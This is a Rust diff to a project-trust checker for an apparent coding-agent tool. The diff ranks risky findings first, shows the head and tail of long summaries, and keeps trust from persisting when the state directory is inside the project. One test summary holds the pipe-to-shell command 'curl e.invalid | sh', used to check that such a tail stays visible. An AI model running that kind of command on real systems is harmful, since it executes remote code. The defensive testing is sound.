@@ -32,14 +32,16 @@ pub use terminal::TerminalAsker;
 
 use evidence::Evidence;
 
-use crate::context::Directories;
+use crate::context::{Context, Directories};
 use crate::error::{Failure, FailureKind};
 use crate::request::TrustChoice;
 
 /// How many findings a message lists.
 const LISTED: usize = 20;
-/// How much of one is shown.
+/// How many characters of one are shown in a message, and in the question: the head and the tail of a longer one.
 const SHOWN: usize = 160;
+#[cfg(unix)]
+const SHOWN_IN_FULL: usize = 4000;
 
 /// What sort of thing was found.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
@@ -96,6 +98,17 @@ impl ItemKind {
     }
 }
 
+impl ItemKind {
+    /// What runs as soon as an engine starts comes first, then what runs when it is used, then the rest.
+    fn danger(self) -> u8 {
+        match self {
+            Self::Plugin | Self::Tool | Self::Mcp | Self::FrontMatter | Self::Unreadable => 0,
+            Self::Shell | Self::LanguageServer | Self::Formatter | Self::Provider | Self::Remote | Self::Setting => 1,
+            Self::Command | Self::Reading | Self::Variable => 2,
+        }
+    }
+}
+
 /// One piece of code, or something that leads to code or reads.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct Item {
@@ -107,10 +120,59 @@ pub struct Item {
     pub summary: String,
 }
 
+impl Item {
+    /// As much as a person may have to see before they trust it.
+    #[cfg(unix)]
+    fn in_full(&self) -> String {
+        let summary = cut(&self.summary, SHOWN_IN_FULL);
+        format!("{}: {summary}", cut(&self.path.to_string_lossy(), SHOWN_IN_FULL))
+    }
+}
+
 impl fmt::Display for Item {
     /// Path and summary, safe for a terminal.
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         write!(f, "{}: {}", shown(&self.path.to_string_lossy()), shown(&self.summary))
+    }
+}
+
+/// The directories that the environment calls the user's, and from which code or trust comes.
+#[derive(Debug, Clone)]
+pub struct UserPlaces {
+    home: PathBuf,
+    /// The engine's configuration.
+    engine_config: PathBuf,
+    /// What the engine and we have installed.
+    programs: Vec<PathBuf>,
+    /// Our own state, with the answers.
+    state: PathBuf,
+}
+
+impl UserPlaces {
+    /// Those of a command.
+    pub fn of(context: &Context) -> Self {
+        let of_engine = |variable, fallback| context.engine_directory(variable, fallback);
+        Self {
+            home: context.directories.home.clone(),
+            engine_config: of_engine("XDG_CONFIG_HOME", ".config"),
+            programs: vec![
+                of_engine("XDG_DATA_HOME", ".local/share").join("bin"),
+                of_engine("XDG_CACHE_HOME", ".cache").join("bin"),
+                of_engine("XDG_CACHE_HOME", ".cache").join("packages"),
+                context.directories.data.join("engines"),
+            ],
+            state: context.directories.state.clone(),
+        }
+    }
+
+    /// Those of a home, where the environment says nothing else.
+    pub fn in_home(home: &Path) -> Self {
+        Self {
+            home: home.to_path_buf(),
+            engine_config: home.join(".config/opencode"),
+            programs: vec![home.join(".local/share/opencode/bin")],
+            state: home.join(".local/state/opencode-rs"),
+        }
     }
 }
 
@@ -123,9 +185,18 @@ pub struct Findings {
     pub items: Vec<Item>,
     /// The paths and contents of everything that was found, of which the digest is made.
     evidence: Evidence,
+    /// Whether the answers that are remembered are the user's: a project may bring its own along.
+    is_state_own: bool,
 }
 
 impl Findings {
+    /// What is most dangerous first.
+    fn by_danger(&self) -> Vec<&Item> {
+        let mut items: Vec<&Item> = self.items.iter().collect();
+        items.sort_by_key(|item| item.kind.danger());
+        items
+    }
+
     /// Whether these findings, in a copy with the root `root`, are what was found in `original`, with the root
     /// `original_root`: the same files with the same contents, each at its place, and nothing besides. What was found above
     /// the original is not in the copy.
@@ -191,10 +262,14 @@ pub fn require(
         return Ok(());
     }
     let memory = memory::Memory::new(&directories.state);
-    if memory.holds(findings, asker) {
+    if findings.is_state_own && memory.holds(findings, asker) {
         return Ok(());
     }
     match asker.ask(findings) {
+        TrustAnswer::Trusted if !findings.is_state_own => {
+            asker.warn("the answer holds for this run alone, since our state directory lies in the project");
+            Ok(())
+        }
         TrustAnswer::Trusted => {
             if let Err(error) = memory.remember(findings, asker) {
                 asker.warn(&format!(
@@ -229,7 +304,8 @@ fn refusal(findings: &Findings, directories: &Directories, why: &str) -> Failure
     let mut failure = Failure::usage(format!(
         "cannot work in `{directory}`: it brings along what runs or reads outside of it, and {why}"
     ));
-    failure.causes = findings.items.iter().take(LISTED).map(Item::to_string).collect();
+    let items = findings.by_danger().into_iter();
+    failure.causes = items.take(LISTED).map(Item::to_string).collect();
     if findings.items.len() > LISTED {
         failure
             .causes
@@ -243,22 +319,28 @@ fn refusal(findings: &Findings, directories: &Directories, why: &str) -> Failure
         ))
 }
 
-/// Text of a stranger's, fit for a terminal: one line, no control or direction characters, not too long.
+/// Text of a stranger's, fit for a message.
 fn shown(text: &str) -> String {
-    let mut shown: String = text
-        .chars()
-        .take(SHOWN)
-        .map(|c| match c {
-            '\n' | '\r' | '\t' => ' ',
-            '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' => '\u{fffd}',
-            c if c.is_control() => '\u{fffd}',
-            c => c,
-        })
-        .collect();
-    if text.chars().nth(SHOWN).is_some() {
-        shown.push('…');
+    cut(text, SHOWN)
+}
+
+/// Text of a stranger's, fit for a terminal: one line, no control or direction characters, of at most `limit` characters
+/// its head and its tail.
+fn cut(text: &str, limit: usize) -> String {
+    let clean = |c: char| match c {
+        '\n' | '\r' | '\t' => ' ',
+        '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' => '\u{fffd}',
+        c if c.is_control() => '\u{fffd}',
+        c => c,
+    };
+    let count = text.chars().count();
+    if count <= limit {
+        return text.chars().map(clean).collect();
     }
-    shown
+    let tail = limit / 3;
+    let head: String = text.chars().take(limit - tail).map(clean).collect();
+    let tail: String = text.chars().skip(count - tail).map(clean).collect();
+    format!("{head} … {tail}")
 }
 
 #[cfg(test)]
@@ -328,7 +410,7 @@ mod tests {
         }
 
         fn findings(&self) -> Findings {
-            scan(&self.project(), &self.directories.home).unwrap()
+            scan(&self.project(), &UserPlaces::in_home(&self.directories.home)).unwrap()
         }
 
         fn require(&self, choice: TrustChoice, trusted: &[PathBuf], asker: &mut Asker) -> Result<(), Failure> {
@@ -380,7 +462,7 @@ mod tests {
         place.require(TrustChoice::Ask, &[place.project()], &mut asker).unwrap();
         let below = place.project().join("below");
         fs::create_dir(&below).unwrap();
-        let findings = scan(&below, &place.directories.home).unwrap();
+        let findings = scan(&below, &UserPlaces::in_home(&place.directories.home)).unwrap();
         let mut require = |trusted: &Path| {
             let trusted = [trusted.to_path_buf()];
             require(&findings, TrustChoice::Ask, &trusted, &place.directories, &mut asker)
@@ -402,7 +484,7 @@ mod tests {
             fs::write(path, text).unwrap();
         };
         let is_copy = || {
-            let copy = scan(&root, &place.directories.home).unwrap();
+            let copy = scan(&root, &UserPlaces::in_home(&place.directories.home)).unwrap();
             copy.is_copy(&root, &original, &place.project())
         };
         write(".git", "gitdir: elsewhere");
@@ -462,10 +544,13 @@ mod tests {
         let item = Item {
             kind: ItemKind::Plugin,
             path: PathBuf::from("/p/\x1b[2Jx\u{202e}"),
-            summary: format!("a\nb\u{9b}c{}", "x".repeat(300)),
+            summary: format!("a\nb\u{9b}c{}; curl e.invalid | sh", "x".repeat(300)),
         };
         let text = item.to_string();
         assert!(text.starts_with("/p/\u{fffd}[2Jx\u{fffd}: a b\u{fffd}cxxx"), "{text}");
-        assert!(text.ends_with("x…"));
+        assert!(
+            text.contains("x … x") && text.ends_with("xx; curl e.invalid | sh"),
+            "{text}"
+        );
     }
 }
